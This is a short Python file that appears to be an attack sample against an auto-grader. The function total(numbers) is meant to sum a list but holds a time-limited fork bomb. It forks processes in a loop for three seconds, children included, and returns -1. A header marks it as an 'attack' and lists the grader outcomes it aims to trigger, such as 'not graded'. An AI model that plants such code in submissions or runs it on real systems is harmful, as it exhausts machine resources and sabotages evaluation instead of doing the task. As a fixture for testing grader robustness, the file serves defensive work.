"""Forks without end, and its children do as well."""

# /// attack
# seen = ['test_total: (StudentError|Stopped|NotChecked): ']
# stock = ["not graded"]
# ///
# %% total
import os
import time


def total(numbers):
    end = time.monotonic() + 3
    while time.monotonic() < end:
        try:
            if os.fork() == 0:
                continue
        except OSError:
            pass
    return -1
